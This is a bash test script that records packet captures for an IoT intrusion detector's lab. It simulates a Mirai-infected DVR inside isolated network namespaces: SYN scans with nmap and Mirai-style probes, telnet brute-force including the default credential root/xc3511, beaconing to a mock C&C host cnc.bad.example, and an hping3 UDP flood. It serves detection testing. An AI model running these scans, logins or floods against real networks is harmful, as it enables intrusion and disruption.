#!/bin/bash
# record-detect.sh - records the detection lab's captures, one per scenario,
# into tests/data/lab/*.pcapng (what each holds: tests/data/lab/README.md;
# what koban must report: tests/lab/detect_test.sh).
#
#   tests/lab/record-detect.sh [-o DIR] [SCENARIO ...]
#
# SCENARIO is scan, default-password, c2, flood, wan-exposure or benign;
# without one, all six are recorded. Each scenario builds its own lab with
# tests/lab/lab.sh (network namespaces named kb-<pid>-*), captures the LAN
# bridge br0 in the gateway namespace with dumpcap, and tears everything
# down (processes, namespaces, nftables rules inside the gateway namespace,
# temp files) before the next one, also on failure or Ctrl-C.
#
# The lab: LAN 192.168.77.0/24 on br0 (gateway 192.168.77.1, dnsmasq for DHCP
# and DNS, fixed addresses per MAC); the gateway routes to an "internet"
# namespace holding documentation addresses only (203.0.113.0/24,
# 198.51.100.0/24); no interface exists in the host's namespace, so no packet
# can leave the lab. Scans are limited to lab prefixes with nmap --max-rate
# and --max-retries 0; the flood is hping3 with a packet count; every step
# has a timeout; no recording lasts 60 s.
#
# Needs root and `scripts/deps.sh test` (busybox-static, dnsmasq, mosquitto,
# mosquitto-clients, tshark/dumpcap, nmap, hping3, nftables, openssl, curl,
# python3). LAB_KEEP_TMP=1 keeps each scenario's temp dir (daemon logs).
set -eu -o pipefail
cd "$(dirname "$0")/../.."
ROOT=$PWD
FILES=$ROOT/tests/lab/files
D=$FILES/detect
OUTDIR=$ROOT/tests/data/lab
# shellcheck source=tests/lab/lab.sh
source "$ROOT/tests/lab/lab.sh"

ALL="scan default-password c2 flood wan-exposure benign"
if [ "${1:-}" = -o ]; then
	OUTDIR=${2:?-o needs a directory}
	shift 2
fi
SCENARIOS=${*:-$ALL}
for s in $SCENARIOS; do
	case " $ALL " in *" $s "*) ;; *) lab_die "unknown scenario '$s' (one of: $ALL)" ;; esac
done

for c in busybox dnsmasq mosquitto mosquitto_pub dumpcap tshark nmap hping3 nft openssl curl python3 ss unshare timeout; do
	command -v "$c" >/dev/null || lab_die "needs $c (run scripts/deps.sh test)"
done
busybox --list | grep -qx telnetd || lab_die "this busybox has no telnetd: install busybox-static"

# --- the cast (MACs: real vendor OUIs from /usr/share/ieee-data/oui.csv, made-up lower half)
declare -A MAC IP HOST
GW_MAC=00:04:0e:77:00:01 # AVM GmbH (a FRITZ!Box-like home router)
GW_IP=192.168.77.1
GW_WAN=203.0.113.254 # and 198.51.100.254
MAC[cam]=0c:8c:24:77:00:20 IP[cam]=192.168.77.20 HOST[cam]=cam-7720         # SHENZHEN BILIAN (no-name XM camera)
MAC[laptop]=ac:ed:5c:77:00:30 IP[laptop]=192.168.77.30 HOST[laptop]=bob-laptop # Intel Corporate
MAC[plug]=68:c6:3a:77:00:40 IP[plug]=192.168.77.40 HOST[plug]=plug-7740        # Espressif Inc.
MAC[printer]=3c:2a:f4:77:00:50 IP[printer]=192.168.77.50 HOST[printer]=BRN3C2AF4770050 # Brother Industries
MAC[tv]=8c:79:f5:77:00:60 IP[tv]=192.168.77.60 HOST[tv]=livingroom-tv          # Samsung Electronics
MAC[bot]=6c:1c:71:77:00:66 IP[bot]=192.168.77.66 HOST[bot]=dvr-4ch             # Zhejiang Dahua (the infected DVR)
# Quiet devices for the scan scenario: they only take a lease and answer probes.
i=1
for m in c0:c9:e3 54:2a:1b d0:4d:2c c4:29:96 68:db:f5 a4:45:19 58:cb:52 68:c6:3a 8c:79:f5; do
	# TP-Link, Sonos, Roku, Signify, Amazon, Xiaomi, Google, Espressif, Samsung
	MAC[q$i]=$m:77:01:0$i IP[q$i]=192.168.77.10$i HOST[q$i]=iot-10$i
	i=$((i + 1))
done
QUIET="q1 q2 q3 q4 q5 q6 q7 q8 q9"
# The "internet" (one namespace, many addresses).
ATTACKER=198.51.100.200 # scans and brute-forces the LAN, uses the port forwards
CNC_IP=198.51.100.66    # cnc.bad.example (the indicator is the name)
REPORT_IP=198.51.100.91 # listed by address in c2-indicators.txt
BEACON_IP=203.0.113.80  # the beacon's peer (in no list)
VICTIM_IP=203.0.113.99  # the flood's target
OPEN_IP=203.0.113.144   # an internet host with 23/tcp open (found by the scan)
CLOUD_IP=203.0.113.30 MQTT_IP=203.0.113.31 FW_IP=203.0.113.32 NTP_IP=203.0.113.123
INET_IPS="$ATTACKER $CNC_IP $REPORT_IP $BEACON_IP $VICTIM_IP $OPEN_IP $CLOUD_IP $MQTT_IP $FW_IP $NTP_IP"
IOT_PORTS=23,2323,80,8080,9530,9673,5555,7547
INBOUND_PORTS=2323,5555,7547,8080,8081,8443,81,88,554,5000,9530,9673,37215,52869,49152,60001

now_ms() { echo $(($(date +%s%N) / 1000000)); }
step() {
	local ms=$(($(now_ms) - START_MS))
	printf '  [%2d.%03ds] %s\n' $((ms / 1000)) $((ms % 1000)) "$*"
}

# lab_up DEVICE... : gateway, internet and the given LAN devices, dnsmasq.
lab_up() {
	local n
	lab_init
	T=$LAB_TMP
	lab_ns_add gw
	lab_ns_add inet
	lab_bridge_add gw br0 "$GW_MAC" "$GW_IP/24"
	for n in "$@"; do
		lab_ns_add "$n"
		lab_link_add gw br0 "p-$n" "$n" "${MAC[$n]}"
	done
	lab_veth_add gw wan inet eth0
	lab_exec gw ip addr add "$GW_WAN/24" dev wan
	lab_exec gw ip addr add 198.51.100.254/24 dev wan
	lab_exec gw sysctl -q -w net.ipv4.ip_forward=1
	for n in $INET_IPS; do lab_exec inet ip addr add "$n/24" dev eth0; done
	# Connections the internet opens to the LAN come from the attacker's address.
	lab_exec inet ip route add 192.168.77.0/24 via "$GW_WAN" src "$ATTACKER"
	lab_bg gw "$T/dnsmasq.log" dnsmasq --keep-in-foreground --conf-file="$D/dnsmasq.conf" \
		--dhcp-leasefile="$T/dnsmasq.leases" --pid-file="$T/dnsmasq.pid" --user=root --group=root \
		--log-facility="$T/dnsmasq.queries"
	lab_wait_udp gw 67
	lab_wait_udp gw 53
	printf 'nameserver %s\n' "$GW_IP" >"$T/resolv.conf"
}

# Port forwards on the gateway (nftables inside the gateway namespace only):
# WAN :2323 -> camera:23 (TELNET), WAN :8080 -> camera:80 (HTTP).
port_forwards() {
	lab_exec gw nft -f - <<EOF
table ip koban_lab {
	chain prerouting {
		type nat hook prerouting priority dstnat; policy accept;
		iifname "wan" tcp dport 2323 dnat to ${IP[cam]}:23
		iifname "wan" tcp dport 8080 dnat to ${IP[cam]}:80
	}
}
EOF
}

dhcp() { # NAME [UDHCPC-ARGS...]
	local n=$1
	shift
	lab_exec "$n" timeout 10 busybox udhcpc -i eth0 -f -q -n -t 5 -T 1 -A 1 -x "hostname:${HOST[$n]}" \
		-s "$FILES/udhcpc.script" "$@" >>"$T/udhcpc-$n.log" 2>&1 ||
		lab_die "$n: no DHCP lease (see $T/udhcpc-$n.log)"
}

camera_services() {
	# telnetd writes utmp/wtmp records: a private, empty /run and /var/log
	# keep the host's login records untouched.
	# shellcheck disable=SC2016
	lab_bg cam "$T/telnetd.log" unshare -m --propagation private sh -c \
		'mount -t tmpfs lab /run && mount -t tmpfs lab /var/log && exec busybox telnetd -F -K -p 23 -b "$0" -l "$1" -f "$2"' \
		"${IP[cam]}" "$D/cam-login.sh" "$D/cam-issue"
	lab_bg cam "$T/httpd.log" busybox httpd -f -p "${IP[cam]}:80" -h "$D/cam-www"
	lab_wait_tcp cam "${IP[cam]}" 23
	lab_wait_tcp cam "${IP[cam]}" 80
}

capture_start() {
	lab_bg gw "$T/dumpcap.log" dumpcap -q -B 16 -i br0 -w "$T/capture.pcapng"
	CAP_PID=$LAB_LAST_PID
	for ((i = 0; i < 50; i++)); do grep -qs "^File:" "$T/dumpcap.log" && break; sleep 0.1; done
	grep -q '^File:' "$T/dumpcap.log" || lab_die "dumpcap did not start: $(cat "$T/dumpcap.log")"
	sleep 0.5
	START_MS=$(now_ms)
}

capture_stop() { # NAME
	local out=$OUTDIR/$1.pcapng
	sleep 0.5
	step "stop capture"
	kill -TERM "$CAP_PID"
	wait "$CAP_PID" || true
	[ -s "$T/capture.pcapng" ] || lab_die "empty capture"
	if grep -qiE 'dropped [1-9]|[1-9][0-9]* packets? dropped' "$T/dumpcap.log"; then
		lab_die "dumpcap dropped packets: $(cat "$T/dumpcap.log")"
	fi
	mkdir -p "$OUTDIR"
	cp "$T/capture.pcapng" "$out"
	chmod 644 "$out"
	echo "  recorded $out: $(tshark -r "$out" 2>/dev/null | wc -l) frames, $(stat -c %s "$out") bytes"
}

# count FILE FILTER: frames matching a display filter
count() { tshark -n -r "$1" -Y "$2" 2>/dev/null | wc -l; }
need() { # FILE FILTER MIN WHAT
	local n
	n=$(count "$1" "$2")
	[ "$n" -ge "$3" ] || lab_die "$(basename "$1"): $4: only $n frame(s) match '$2'"
	echo "  ok: $4 ($n frames)"
}

# mirai_syns FILE: SYNs whose sequence number is their destination address
mirai_syns() {
	tshark -n -r "$1" -Y "tcp.flags==0x002" -T fields -e ip.dst -e tcp.seq_raw 2>/dev/null |
		awk '{ split($1, o, "."); if ((o[1] * 16777216 + o[2] * 65536 + o[3] * 256 + o[4]) == $2) n++ } END { print n + 0 }'
}

# --- 1. scan ------------------------------------------------------------------
scenario_scan() {
	local f=$OUTDIR/scan.pcapng n
	# shellcheck disable=SC2086
	lab_up bot cam $QUIET
	lab_bg inet "$T/open.log" python3 "$D/inet.py" listen "$OPEN_IP" 23 --banner '\r\nlogin: ' --duration 50
	lab_wait_tcp inet "$OPEN_IP" 23
	capture_start
	step "DHCP: DVR, camera, nine quiet devices"
	dhcp bot -V DH-XVR4104C
	dhcp cam
	camera_services
	local pids=()
	for n in $QUIET; do
		dhcp "$n" &
		pids+=($!)
	done
	for n in "${pids[@]}"; do wait "$n" || lab_die "a quiet device got no lease"; done
	sleep 0.5
	# Like a bot running several scanners at once: the Mirai-style SYNs go
	# out while nmap runs, so both are in the scan detector's first window.
	step "DVR: 200 Mirai-style SYNs (seq = destination) to 203.0.113.128/25, 198.51.100.128/25, 4 s"
	lab_exec bot timeout 20 python3 "$D/bot.py" mirai-syn --src "${IP[bot]}" --count 200 --rate 50 --seed 9530 \
		203.0.113.128/25 198.51.100.128/25 >"$T/mirai.log" 2>&1 &
	local mirai_pid=$!
	step "DVR: nmap SYN scan of the LAN on $IOT_PORTS"
	lab_exec bot timeout 30 nmap -sS -Pn -n -e eth0 --max-retries 0 --max-rate 1000 -p "$IOT_PORTS" \
		--exclude "${IP[bot]}" 192.168.77.0/24 -oN "$T/nmap-lan.txt" >/dev/null
	step "DVR: nmap SYN scan of 203.0.113.128/25 on $IOT_PORTS"
	lab_exec bot timeout 30 nmap -sS -Pn -n -e eth0 --max-retries 0 --max-rate 1000 -p "$IOT_PORTS" \
		203.0.113.128/25 -oN "$T/nmap-inet.txt" >/dev/null
	wait "$mirai_pid" || lab_die "Mirai-style scanner failed: $(cat "$T/mirai.log")"
	step "internet $ATTACKER: nmap SYN scan of 192.168.77.0/25 on 16 IoT ports"
	lab_exec inet timeout 30 nmap -sS -Pn -n -e eth0 -S "$ATTACKER" --max-retries 0 --max-rate 500 \
		-p "$INBOUND_PORTS" 192.168.77.0/25 -oN "$T/nmap-inbound.txt" >/dev/null
	sleep 1
	capture_stop scan
	grep -q "^23/tcp *open" "$T/nmap-inet.txt" || lab_die "the scan did not find $OPEN_IP:23"
	need "$f" "eth.src==${MAC[bot]} && tcp.flags==0x002 && ip.dst==192.168.77.0/24" 40 "DVR: SYNs to the LAN"
	need "$f" "eth.src==${MAC[bot]} && tcp.flags==0x002 && ip.dst==203.0.113.128/25" 900 "DVR: SYNs to 203.0.113.128/25"
	need "$f" "eth.src==${MAC[bot]} && tcp.flags==0x002 && tcp.dstport in {9530, 9673}" 200 "DVR: SYNs to 9530/9673"
	n=$(mirai_syns "$f")
	[ "$n" -ge 200 ] || lab_die "scan.pcapng: only $n SYNs with seq = destination address"
	echo "  ok: Mirai trait, seq = destination ($n SYNs)"
	need "$f" "ip.src==$ATTACKER && tcp.flags==0x002" 100 "inbound SYNs from $ATTACKER"
	need "$f" "ip.src==$OPEN_IP && tcp.flags==0x012" 1 "SYN-ACK from $OPEN_IP:23"
	need "$f" "ip.src==${IP[cam]} && tcp.flags==0x012" 2 "SYN-ACKs from the camera (23, 80)"
}

# --- 2. default password -----------------------------------------------------------
# The laptop logs in to the camera with two wrong passwords, then root/xc3511;
# the internet host tries 12 wrong pairs through the port forward.
BRUTE_PAIRS="root:qwerty123 admin:letmein2019 root:dragon88 admin:monkey77 root:sunshine1 admin:summer2020
 root:camera99 admin:football7 root:welcome12 admin:shadow55 root:michael3 admin:baseball9"
scenario_default_password() {
	local pair
	lab_up cam laptop
	port_forwards
	capture_start
	step "DHCP: camera, laptop"
	dhcp cam
	camera_services
	dhcp laptop
	step "laptop: TELNET to cam-7720.lan: root/Winter2019!, admin/hikvision1, then root/xc3511"
	lab_exec_dns laptop "$T/resolv.conf" timeout 20 python3 "$D/telnet_login.py" "${HOST[cam]}.lan" \
		--try 'root:Winter2019!' --try admin:hikvision1 --try root:xc3511 --cmd 'uname -a' --cmd id \
		>"$T/laptop-telnet.log" 2>&1 || lab_die "laptop login failed: $(cat "$T/laptop-telnet.log")"
	sleep 1
	step "internet $ATTACKER: 12 TELNET logins through $GW_WAN:2323, one wrong pair each"
	for pair in $BRUTE_PAIRS; do
		lab_exec inet timeout 10 python3 "$D/telnet_login.py" "$GW_WAN" --port 2323 --bind "$ATTACKER" \
			--try "$pair" --want fail >>"$T/brute.log" 2>&1 || lab_die "brute-force step failed: $(tail -3 "$T/brute.log")"
		sleep 0.3
	done
	capture_stop default-password
	local f=$OUTDIR/default-password.pcapng
	need "$f" "ip.src==${IP[laptop]} && tcp.dstport==23 && tcp.flags==0x002" 1 "laptop TELNET connection"
	need "$f" "ip.src==${IP[cam]} && telnet.data contains \"Login incorrect\"" 14 "14 failed logins (2 laptop + 12 internet)"
	need "$f" "ip.src==${IP[cam]} && ip.dst==${IP[laptop]} && telnet.data contains \"built-in shell\"" 1 "root/xc3511 reached the shell"
	need "$f" "ip.src==$ATTACKER && tcp.dstport==23 && tcp.flags==0x002" 12 "12 connections from $ATTACKER"
}

# --- 3. C&C ----------------------------------------------------------------------
BEACON_PERIOD=2.0
BEACON_JITTER=0.05
BEACON_COUNT=12
scenario_c2() {
	lab_up bot
	mkdir -p "$T/beacon-www"
	printf 'ok\n' >"$T/beacon-www/ping"
	lab_bg inet "$T/cnc.log" python3 "$D/inet.py" cnc "$CNC_IP" 23 --duration 50
	lab_bg inet "$T/report.log" python3 "$D/inet.py" listen "$REPORT_IP" 48101 --duration 50
	lab_bg inet "$T/beacon-httpd.log" busybox httpd -f -p "$BEACON_IP:80" -h "$T/beacon-www"
	lab_wait_tcp inet "$CNC_IP" 23
	lab_wait_tcp inet "$REPORT_IP" 48101
	lab_wait_tcp inet "$BEACON_IP" 80
	capture_start
	step "DHCP: DVR"
	dhcp bot -V DH-XVR4104C
	step "DVR: resolves cnc.bad.example, connects to it on 23/tcp (Mirai hello, heartbeats)"
	lab_exec_dns bot "$T/resolv.conf" timeout 40 python3 "$D/bot.py" cnc cnc.bad.example 23 --hold 28 --heartbeat 7 \
		>"$T/bot-cnc.log" 2>&1 &
	local cnc_pid=$!
	sleep 1
	step "DVR: scan result to the report server $REPORT_IP:48101"
	lab_exec bot timeout 10 python3 "$D/bot.py" report "$REPORT_IP" 48101 >"$T/bot-report.log" 2>&1 ||
		lab_die "report failed: $(cat "$T/bot-report.log")"
	sleep 1
	step "DVR: beacon http://$BEACON_IP/ping x$BEACON_COUNT, every ${BEACON_PERIOD}s +-${BEACON_JITTER}s"
	lab_exec bot timeout 45 python3 "$D/bot.py" beacon "http://$BEACON_IP/ping" --count "$BEACON_COUNT" \
		--period "$BEACON_PERIOD" --jitter "$BEACON_JITTER" --seed 7 >"$T/bot-beacon.log" 2>&1 ||
		lab_die "beacon failed: $(cat "$T/bot-beacon.log")"
	wait "$cnc_pid" || lab_die "C&C connection failed: $(cat "$T/bot-cnc.log")"
	capture_stop c2
	local f=$OUTDIR/c2.pcapng
	need "$f" "dns.flags.response==1 && dns.qry.name==\"cnc.bad.example\" && dns.a==$CNC_IP" 1 "DNS answer cnc.bad.example = $CNC_IP"
	need "$f" "ip.dst==$CNC_IP && tcp.dstport==23 && tcp.flags==0x002" 1 "connection to the C&C"
	need "$f" "ip.dst==$CNC_IP && tcp.payload==00:00:00:01:00" 1 "Mirai hello"
	need "$f" "ip.dst==$REPORT_IP && tcp.dstport==48101 && tcp.len>0" 1 "report record"
	need "$f" "ip.dst==$BEACON_IP && tcp.flags==0x002" "$BEACON_COUNT" "beacon connections"
	need "$f" "ip.dst==$BEACON_IP && http.request.uri contains \"/ping\"" "$BEACON_COUNT" "beacon requests"
}

# --- 4. flood ------------------------------------------------------------------------
scenario_flood() {
	lab_up bot
	lab_bg inet "$T/sink.log" python3 "$D/inet.py" udp-sink "$VICTIM_IP" 27015 --duration 30
	lab_wait_udp inet 27015
	capture_start
	step "DHCP: DVR"
	dhcp bot -V DH-XVR4104C
	sleep 0.5
	step "DVR: hping3 UDP flood, 5000 packets to $VICTIM_IP:27015 every 300 us"
	lab_exec bot timeout 15 hping3 --udp -p 27015 -d 32 -c 5000 -i u300 -q -I eth0 "$VICTIM_IP" >"$T/hping3.log" 2>&1 || true
	grep -q '5000 packets transmitted' "$T/hping3.log" || lab_die "hping3: $(cat "$T/hping3.log")"
	sleep 1
	capture_stop flood
	local f=$OUTDIR/flood.pcapng
	need "$f" "ip.src==${IP[bot]} && ip.dst==$VICTIM_IP && udp.dstport==27015" 5000 "5000 flood packets"
}

# --- 5. WAN exposure -------------------------------------------------------------------
scenario_wan_exposure() {
	lab_up cam
	port_forwards
	capture_start
	step "DHCP: camera"
	dhcp cam
	camera_services
	sleep 0.5
	step "internet $ATTACKER: TELNET to $GW_WAN:2323 (-> camera:23), reads the login prompt"
	lab_exec inet timeout 10 python3 "$D/telnet_login.py" "$GW_WAN" --port 2323 --bind "$ATTACKER" --peek \
		>"$T/peek.log" 2>&1 || lab_die "telnet peek failed: $(cat "$T/peek.log")"
	sleep 0.5
	step "internet $ATTACKER: HTTP GET http://$GW_WAN:8080/ (-> camera:80)"
	lab_exec inet timeout 10 curl -sS --interface "$ATTACKER" -A "Mozilla/5.0 zgrab/0.x" -o "$T/index.html" \
		"http://$GW_WAN:8080/"
	grep -q NETSurveillance "$T/index.html" || lab_die "camera page not served through the port forward"
	capture_stop wan-exposure
	local f=$OUTDIR/wan-exposure.pcapng
	need "$f" "ip.src==${IP[cam]} && ip.dst==$ATTACKER && tcp.srcport==23 && tcp.flags==0x012" 1 "camera:23 answers $ATTACKER"
	need "$f" "ip.src==${IP[cam]} && ip.dst==$ATTACKER && telnet.data contains \"login:\"" 1 "login prompt to $ATTACKER"
	need "$f" "ip.src==${IP[cam]} && ip.dst==$ATTACKER && http.response.code==200" 1 "HTTP 200 to $ATTACKER"
}

# --- 6. benign ---------------------------------------------------------------------
scenario_benign() {
	lab_up laptop plug printer tv
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=cloud.example \
		-addext subjectAltName=DNS:cloud.example,DNS:mqtt.example,DNS:fw.example \
		-keyout "$T/lab.key" -out "$T/lab.crt" 2>/dev/null
	mkdir -p "$T/fw-www/plug"
	head -c 6000 /dev/zero | tr '\0' 'F' >"$T/fw-www/plug/fw-1.5.0.bin"
	cat >"$T/mosquitto.conf" <<EOF
listener 8883 $MQTT_IP
certfile $T/lab.crt
keyfile $T/lab.key
allow_anonymous true
persistence false
log_dest stderr
user root
EOF
	lab_bg inet "$T/mosquitto.log" mosquitto -c "$T/mosquitto.conf"
	lab_bg inet "$T/cloud.log" openssl s_server -accept "$CLOUD_IP:443" -cert "$T/lab.crt" -key "$T/lab.key" -www -naccept 2
	# shellcheck disable=SC2016
	lab_bg inet "$T/fw.log" sh -c 'cd "$0" && exec openssl s_server -accept "$1" -cert "$2" -key "$3" -WWW -naccept 2' \
		"$T/fw-www" "$FW_IP:443" "$T/lab.crt" "$T/lab.key"
	lab_bg inet "$T/sntp.log" python3 "$FILES/sntp.py" server --ip "$NTP_IP" --duration 50
	lab_wait_tcp inet "$MQTT_IP" 8883
	lab_wait_tcp inet "$CLOUD_IP" 443
	lab_wait_tcp inet "$FW_IP" 443
	lab_wait_udp inet 123
	capture_start
	step "DHCP: laptop, plug, printer, TV"
	dhcp laptop
	dhcp plug -V ESP32-SP20
	dhcp printer
	dhcp tv
	step "printer: mDNS announcements (_ipp._tcp); TV: SSDP NOTIFY"
	lab_bg printer "$T/mdns.log" python3 "$FILES/mdns.py" announce --ip "${IP[printer]}" --host "${HOST[printer]}" \
		--instance "Office printer" --service _ipp._tcp --port 631 --txt txtvers=1 --txt qtotal=1 \
		--txt rp=ipp/print --txt "pdl=application/octet-stream,image/urf,image/pwg-raster" --duration 20
	lab_bg tv "$T/ssdp.log" python3 "$FILES/ssdp.py" device --ip "${IP[tv]}" \
		--location "http://${IP[tv]}:7676/dmr" --server "Tizen/6.0 UPnP/1.0 SmartTV/1.0" \
		--uuid 4f7e2c1a-77a0-4c1b-9d3e-8c79f5770060 --duration 20
	lab_wait_udp printer 5353
	lab_wait_udp tv 1900
	sleep 1.5
	step "laptop: SSDP M-SEARCH, mDNS query for _ipp._tcp"
	lab_exec laptop timeout 5 python3 "$FILES/ssdp.py" search --ip "${IP[laptop]}" --wait 1.5 >"$T/search.log" ||
		lab_die "SSDP search found nothing"
	lab_exec laptop timeout 5 python3 "$FILES/mdns.py" query --ip "${IP[laptop]}" --service _ipp._tcp --wait 2 \
		>"$T/query.log" || lab_die "mDNS query found nothing"
	step "plug: NTP, MQTT over TLS (anonymous), firmware download over HTTPS"
	lab_exec_dns plug "$T/resolv.conf" timeout 5 python3 "$FILES/sntp.py" client ntp.example >>"$T/plug.log" 2>&1 ||
		lab_die "NTP failed"
	lab_exec_dns plug "$T/resolv.conf" timeout 5 mosquitto_pub -h mqtt.example -p 8883 --cafile "$T/lab.crt" \
		-i plug-7740 -q 1 -t tele/plug-7740/STATE -m '{"POWER":"ON","Watts":3.1}' >>"$T/plug.log" 2>&1 ||
		lab_die "MQTT over TLS failed: $(cat "$T/plug.log")"
	lab_exec_dns plug "$T/resolv.conf" timeout 5 curl -sS --cacert "$T/lab.crt" -A "SP20/1.4.9 ESP32HTTPClient" \
		-o "$T/fw.bin" https://fw.example/plug/fw-1.5.0.bin
	cmp -s "$T/fw.bin" "$T/fw-www/plug/fw-1.5.0.bin" || lab_die "firmware download differs"
	step "laptop: HTTPS to cloud.example"
	lab_exec_dns laptop "$T/resolv.conf" timeout 5 curl -sS --cacert "$T/lab.crt" -o "$T/cloud.html" \
		https://cloud.example/
	grep -q s_server "$T/cloud.html" || lab_die "TLS to cloud.example failed"
	sleep 1
	capture_stop benign
	local f=$OUTDIR/benign.pcapng
	need "$f" "dhcp.option.dhcp==5" 4 "4 DHCP ACKs"
	need "$f" "mdns && dns.flags.response==1 && ip.src==${IP[printer]}" 2 "mDNS announcements"
	need "$f" "ssdp && ip.src==${IP[tv]}" 3 "SSDP from the TV"
	need "$f" "ntp && ip.src==$NTP_IP" 1 "NTP reply"
	need "$f" "tls.handshake.extensions_server_name==\"mqtt.example\" && tcp.dstport==8883" 1 "MQTT over TLS"
	need "$f" "tls.handshake.extensions_server_name==\"fw.example\"" 1 "HTTPS firmware download"
	need "$f" "tls.handshake.extensions_server_name==\"cloud.example\"" 1 "HTTPS to cloud.example"
	[ "$(count "$f" "mqtt || telnet || http || ftp")" -eq 0 ] || lab_die "benign capture holds cleartext application traffic"
}

for s in $SCENARIOS; do
	START_MS=$(now_ms)
	echo "== $s"
	"scenario_${s//-/_}"
	lab_cleanup
done
ls -l "$OUTDIR"/*.pcapng
